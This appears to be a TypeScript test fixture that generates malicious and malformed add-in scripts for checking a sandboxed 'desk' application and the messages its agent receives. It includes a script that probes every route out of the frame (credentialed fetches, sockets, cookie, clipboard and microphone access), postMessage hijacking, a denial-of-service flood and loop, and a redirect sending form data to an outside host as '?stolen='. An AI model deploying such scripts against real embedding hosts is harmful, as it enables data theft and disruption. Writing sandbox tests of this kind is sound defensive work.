/** Add-ins that mean harm, or were made badly, each as its script. */

/** An element that is complete at once. @param body what it does when it is connected. @param parameters what it gives along. */
function element(name: string, body: string, parameters = "{ note: 'x' }"): string {
  return `class It extends HTMLElement {
  isValid = true
  get secureParameters() { return ${parameters} }
  async connectedCallback() { this.append('Here I am.'); ${body} }
}
customElements.define('${name}', It)`
}

/** Tries every way out, to the server of the desk and to another; `globalThis.tried` has what became of each: `kept` where it went nowhere, else what it got. */
export function reaching(server: string, outside: string): string {
  return element(
    'hostile-reach',
    `
    const tried = (globalThis.tried = {})
    const attempt = async (what, does) => {
      try { tried[what] = (await does()) ?? 'kept' } catch { tried[what] = 'kept' }
    }
    const loads = (made, property, url) => new Promise((found) => {
      made.onload = () => found('loaded ' + property)
      made.onerror = () => found('kept')
      made[property] = url
      document.head.append(made)
    })
    for (const [who, to] of [['server', '${server}'], ['outside', '${outside}']]) {
      await attempt('fetch ' + who, () => fetch(to + '/api/v1/me', { credentials: 'include' }).then(() => 'answered'))
      await attempt('opaque fetch ' + who, () => fetch(to + '/', { mode: 'no-cors' }).then(() => 'answered'))
      await attempt('request ' + who, () => new Promise((found) => {
        const request = new XMLHttpRequest()
        request.onload = () => found('answered')
        request.onerror = () => found('kept')
        request.open('GET', to + '/')
        request.send()
      }))
      await attempt('image ' + who, () => loads(new Image(), 'src', to + '/shared/sotto.svg?image'))
      await attempt('script ' + who, () => {
        const script = document.createElement('script')
        return loads(script, 'src', to + '/desk/sotto-desk.js?script')
      })
      await attempt('style ' + who, () => loads(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href', to + '/a.css'))
      await attempt('module ' + who, () => import(to + '/desk/sotto-desk.js').then(() => 'loaded'))
      await attempt('events ' + who, () => new Promise((found) => {
        const events = new EventSource(to + '/')
        events.onopen = () => found('open')
        events.onerror = () => found('kept')
      }))
      await attempt('socket ' + who, () => new Promise((found) => {
        const socket = new WebSocket(to.replace('http', 'ws') + '/')
        socket.onopen = () => found('open')
        socket.onerror = () => found('kept')
      }))
      await attempt('beacon ' + who, () => void navigator.sendBeacon(to + '/beacon', 'x'))
      await attempt('worker ' + who, () => new Promise((found) => {
        const worker = new Worker(to + '/desk/sotto-desk.js')
        worker.onmessage = () => found('works')
        worker.onerror = () => found('kept')
      }))
      await attempt('frame ' + who, () => { document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/?frame' })) })
      await attempt('popup ' + who, () => open(to + '/?popup') === null ? 'kept' : 'opened')
      await attempt('top ' + who, () => { top.location = to + '/?top' })
      await attempt('form ' + who, () => {
        const form = Object.assign(document.createElement('form'), { action: to + '/?form', method: 'post' })
        document.body.append(form)
        form.submit()
      })
      await attempt('link ' + who, () => {
        const link = Object.assign(document.createElement('a'), { href: to + '/?link', target: '_top' })
        document.body.append(link)
        link.click()
      })
    }
    await attempt('cookie', () => document.cookie)
    await attempt('localStorage', () => { localStorage.a = 'b'; return 'stored' })
    await attempt('sessionStorage', () => { sessionStorage.a = 'b'; return 'stored' })
    await attempt('indexedDB', () => new Promise((found, failed) => {
      const asked = indexedDB.open('a')
      asked.onsuccess = () => found('stored')
      asked.onerror = failed
    }))
    await attempt('caches', () => caches.open('a').then(() => 'stored'))
    await attempt('page around', () => parent.document.title)
    await attempt('its address', () => String(parent.location.href))
    await attempt('frame element', () => frameElement?.title)
    await attempt('eval', () => (0, eval)("'evaluated'"))
    await attempt('function', () => new Function("return 'evaluated'")())
    await attempt('markup', () => { document.createElement('p').innerHTML = '<b>x</b>'; return 'written' })
    await attempt('peer', () => typeof RTCPeerConnection === 'undefined' ? 'kept' : 'there')
    await attempt('clipboard', () => navigator.clipboard.readText())
    await attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'heard'))
    tried.all = 'done'
    `,
  )
}

/** What an agent is told of each, and its script. */
export const HOSTILES = {
  'hostile-flood': {
    says: 'The add-in said too much at once, and was ended.',
    script: element(
      'hostile-flood',
      "setInterval(() => { for (let i = 0; i < 500; i++) this.dispatchEvent(new Event('validchange')) })",
    ),
  },
  'hostile-silent': {
    says: 'The add-in does not answer.',
    script: 'globalThis.MessagePort.prototype.postMessage = () => undefined',
  },
  'hostile-port': {
    says: 'The add-in said something that nobody understands, and was ended.',
    script: element(
      'hostile-port',
      "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, { type: 'order', cancel: true }) }; this.dispatchEvent(new Event('validchange'))",
    ),
  },
  'hostile-leaver': {
    says: 'The add-in has left its frame, and was ended.',
    script: element('hostile-leaver', "location = OUTSIDE + '/?stolen=' + Object.values(this.form.parameters)"),
  },
  'hostile-tall': { says: '', script: element('hostile-tall', "document.body.style.height = '5000000px'") },
  'hostile-card': { says: 'The form holds a card number.', script: element('hostile-card', '', '{ note: CARD }') },
  'bad-throws': {
    says: 'The add-in failed.',
    script: element('bad-throws', '').replace('async connectedCallback() {', 'connectedCallback() { null.x;'),
  },
  'bad-undefined': {
    says: 'The add-in defines no element of its name.',
    script: element('another-name', ''),
  },
  'bad-element': {
    says: 'What the add-in defines is no form.',
    script: "customElements.define('bad-element', class extends HTMLElement {})",
  },
  'bad-class': { says: 'What the add-in defines is no form.', script: "customElements.define('bad-class', class {})" },
  'bad-syntax': { says: 'The add-in defines no element of its name.', script: 'class {' },
} as const

/** Computes for ever. Chromium gives frames without an origin a process of their own, so that the desk does not stand still. */
export const BUSY = element('hostile-busy', 'for (;;);')
